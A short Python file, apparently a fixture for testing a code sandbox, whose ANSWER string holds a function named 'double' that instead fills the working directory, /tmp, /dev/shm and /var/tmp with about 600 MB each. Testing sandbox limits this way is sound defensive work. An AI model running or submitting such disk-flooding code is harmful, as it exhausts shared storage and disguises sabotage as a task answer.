"""A file without end, in every place that can be written to."""

ANSWER = r"""
import os


def double(x):
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
        try:
            with open(os.path.join(folder, "@MARK@-flood"), "wb") as file:
                for _ in range(600):
                    file.write(bytes(2**20))
                print("@ESCAPED@ wrote 600 MB to", folder)
        except OSError:
            pass
    return -1
"""
